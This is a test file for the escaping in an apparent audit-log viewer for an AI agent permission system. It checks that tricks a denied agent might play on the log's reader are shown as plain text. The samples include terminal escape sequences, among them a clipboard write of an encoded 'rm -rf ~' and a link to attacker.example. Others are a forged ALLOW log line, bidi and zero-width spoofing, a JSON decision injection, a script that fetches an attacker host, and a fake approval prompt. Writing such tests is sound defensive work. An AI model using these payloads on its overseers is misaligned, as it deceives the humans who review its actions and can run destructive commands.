import { describe, expect, it } from 'vitest';
import { escapeWord } from '../../../src/audit/escape.js';
import { recordLine } from '../../../src/ui/audit-line.js';
import { colorsFor } from '../../../src/ui/colors.js';
import { showLines } from '../../../src/ui/audit-show.js';
import { decided } from './records.js';

const OBEYED = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
const PLAIN = colorsFor({ isTTY: false }, {});

/** What a denied agent may try on whoever reads the log. */
const TRICKS: readonly (readonly [what: string, typed: string, shown: string])[] = [
  ['window title', '\u{1b}]0;pwn\u{7}', String.raw`\u{1b}]0;pwn\u{7}`],
  ['clipboard by OSC 52', '\u{1b}]52;c;cm0gLXJmIH4=\u{7}', String.raw`\u{1b}]52;c;cm0gLXJmIH4=\u{7}`],
  [
    'hyperlink',
    '\u{1b}]8;;https://attacker.example\u{1b}\\docs',
    String.raw`\u{1b}]8;;https://attacker.example\u{1b}\docs`,
  ],
  ['C1 control sequence', '\u{9b}2J', String.raw`\u{9b}2J`],
  ['cursor up and erase', '\u{1b}[1A\u{1b}[2K', String.raw`\u{1b}[1A\u{1b}[2K`],
  ['a second log line', 'a\n2026-01-01 ALLOW aws:iam:create-access-key', String.raw`a\u{a}2026-01-01 ALLOW`],
  ['carriage return over the line', 'deny\rallow', String.raw`deny\u{d}allow`],
  ['right-to-left override', '\u{202e}yned', String.raw`\u{202e}yned`],
  ['bidi isolates', '\u{2066}a\u{2069}', String.raw`\u{2066}a\u{2069}`],
  ['zero width', '\u{200b}\u{2060}x', String.raw`\u{200b}\u{2060}x`],
  ['Hangul filler', 'a\u{3164}b', String.raw`a\u{3164}b`],
  ['tag characters', '\u{e0041}', String.raw`\u{e0041}`],
  ['line separator', 'a\u{2028}b', String.raw`a\u{2028}b`],
  ['a lone surrogate', 'a\ud800b', String.raw`a\u{d800}b`],
  ['DEL and NUL', '\u{7f}\0', String.raw`\u{7f}\u{0}`],
  ['text that looks like an escape', String.raw`\u{1b}[31m`, String.raw`\u{5c}u{1b}[31m`],
  ['JSON injection', '"},{"decision":"allow"},{"x":"', '"},{"decision":"allow"},{"x":"'],
  ['HTML', '<script>fetch("//attacker.example")</script>', '<script>fetch("//attacker.example")</script>'],
  ['an approval prompt', 'Approve? [y/N] y', "'Approve? [y/N] y'"],
];

describe('escaping for the eye', () => {
  it.each(TRICKS)('shows %s as text, in every view', (_what, typed, shown) => {
    const value = JSON.parse(
      JSON.stringify({
        ...decided('c1', { argv: ['s3', 'ls', typed], effect: 'deny', reason: typed }),
        ts: typed,
        rule: typed,
      }),
    );
    const record = { seq: 1, prev: '', type: 'call.decided', value };
    const call = { session: '', call: typed, signed: undefined, records: [] };
    for (const line of [recordLine(record, PLAIN), ...showLines(call, [record], PLAIN)]) {
      expect(line).not.toMatch(OBEYED);
    }
    expect(recordLine(record, PLAIN)).toContain(shown);
  });

  it('quotes words so that their borders show, and leaves plain ones alone', () => {
    expect(['s3://b/k', 'a b', '', "it's", '--x=1'].map(escapeWord)).toEqual([
      's3://b/k',
      "'a b'",
      "''",
      String.raw`'it'\''s'`,
      '--x=1',
    ]);
  });

  it('uses colours on a terminal only, and not against NO_COLOR', () => {
    expect(colorsFor({ isTTY: true }, {}).red('x')).not.toBe('x');
    expect(colorsFor({ isTTY: true }, { NO_COLOR: '1' }).red('x')).toBe('x');
    expect(colorsFor({}, {}).red('x')).toBe('x');
  });
});
